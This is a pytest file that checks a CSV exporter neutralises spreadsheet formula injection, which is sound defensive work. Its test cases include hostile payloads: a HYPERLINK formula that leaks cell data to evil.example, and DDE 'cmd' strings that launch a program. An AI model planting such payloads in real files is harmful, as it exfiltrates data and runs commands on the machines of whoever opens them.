"""CSV exports cannot attack their reader: text cells that a spreadsheet would run as a formula
are neutralised (OWASP), numbers never are, and --raw prints what is stored."""

from __future__ import annotations

import csv
import io

import pytest

from dataharvest.exports import neutralize, to_csv


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        ("'=1+1", "'=1+1"),  # already text to a spreadsheet
        (" =1+1", " =1+1"),  # a leading space makes it text
        ("P-1001", "P-1001"),
        ("a=b", "a=b"),
        ("Zoë 😀", "Zoë 😀"),
        ("", ""),
    ],
)
def test_neutralize(cell: str, shown: str) -> None:
    assert neutralize(cell) == shown


REJECTIONS = [
    {
        "entity": "transactions",
        "source_key": "acme/transactions_20240102.csv",
        "source_version": "v1",
        "line_number": 3,
        "column_name": "amount",
        "value": "-2+3",
        "reason": "amount: '-2+3' is not a decimal",
    },
    {
        "entity": "transactions",
        "source_key": "acme/transactions_20240102.csv",
        "source_version": "v1",
        "line_number": None,
        "column_name": None,
        "value": None,
        "reason": "@ the file",
    },
]


def test_text_columns_are_neutralised_numbers_never() -> None:
    summary = [
        {
            "portfolio_reference": "@SUM(A1)",
            "client_reference": '=HYPERLINK("http://x","y")',
            "account_number": -100,
            "cash_balance": "-12.50",
            "number_of_transactions": 2,
            "sum_of_deposits": "-0.01",
        }
    ]
    assert to_csv("portfolio-summary", summary) == (
        "portfolio_reference,client_reference,account_number,cash_balance,"
        "number_of_transactions,sum_of_deposits\n"
        '\'@SUM(A1),"\'=HYPERLINK(""http://x"",""y"")",-100,-12.50,2,-0.01\n'
    )
    assert to_csv(
        "client-tax", [{"client_reference": "-C1", "tax_free_allowance": "+5", "taxes_paid": "-0"}]
    ) == ("client_reference,tax_free_allowance,taxes_paid\n'-C1,+5,-0\n")
    assert to_csv("rejections", REJECTIONS) == (
        "entity,source_key,source_version,line_number,column_name,value,reason\n"
        "transactions,acme/transactions_20240102.csv,v1,3,amount,'-2+3,amount: '-2+3' is not a "
        "decimal\n"
        "transactions,acme/transactions_20240102.csv,v1,,,,'@ the file\n"
    )


def test_raw_prints_cells_as_stored() -> None:
    out = to_csv("rejections", REJECTIONS, raw=True)
    assert list(csv.DictReader(io.StringIO(out))) == [
        {k: "" if v is None else str(v) for k, v in r.items()} for r in REJECTIONS
    ]


def test_a_neutralised_cell_reads_back_as_its_value_after_the_quote() -> None:
    cell = "\r=cmd|' /C calc'!A0\n2nd line"
    out = to_csv("quality-issues", [{"issue": "x", "entity": "e", "reference": cell, "detail": ""}])
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["reference"] == "'" + cell
